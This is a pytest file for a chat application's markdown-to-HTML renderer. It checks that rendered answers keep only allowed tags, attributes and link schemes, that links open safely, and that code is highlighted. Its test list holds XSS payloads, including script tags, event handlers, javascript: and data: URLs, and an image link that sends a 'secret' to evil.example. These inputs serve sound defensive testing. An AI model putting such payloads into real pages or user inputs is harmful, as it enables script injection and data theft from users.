"""An answer becomes HTML in which nothing runs and nothing loads, whatever the model wrote."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from chatproject.chat import markdown
from chatproject.env import ROOT

NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](/accounts/logout/)",
    "[x](//evil.example)",
    "![x](https://evil.example/steal.png?q=secret)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```python onload=alert(1)\nx = 1\n```",
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)>",
    "|a|\n|:-|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<https://x.example/?a='onclick=alert(1)>",
]
TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "s", "a", "code", "pre",
    "span", "blockquote", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Tags(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", NASTY)
def test_nothing_runs_and_nothing_loads(text: str) -> None:
    for tag, attributes in Tags(markdown.render(text)).found:
        assert tag in TAGS
        assert set(attributes) <= {"href", "title", "target", "rel", "class", "start"}
        href = attributes.get("href")
        assert href is None or href.startswith(("https://", "http://", "mailto:"))


def test_links_open_elsewhere_and_tell_nothing() -> None:
    (_, link) = Tags(markdown.render("[x](https://example.org)")).found[1]
    assert link["target"] == "_blank"
    assert link["rel"] == "noopener noreferrer nofollow"


def test_code_is_highlighted_and_stays_the_same_code() -> None:
    html = markdown.render("```python\nif a < b: pass\n```")
    assert '<code class="language-python">' in html
    assert '<span class="k">if</span>' in html
    assert "&lt;" in html


def test_an_unknown_language_and_a_huge_block_are_shown_plain() -> None:
    assert "<span" not in markdown.render("```klingon\nx\n```")
    assert "<span" not in markdown.render(f"```python\n{'x = 1' * markdown.MAX_HIGHLIGHTED}\n```")


def test_no_style_attribute_is_made_that_the_policy_would_refuse() -> None:
    html = markdown.render("|a|\n|:-:|\n|1|")
    assert "style" not in html
    assert '<td class="align-center">' in html


def test_the_committed_colours_are_those_of_the_highlighter() -> None:
    assert (ROOT / "static" / "css" / "code.css").read_text() == markdown.code_css()
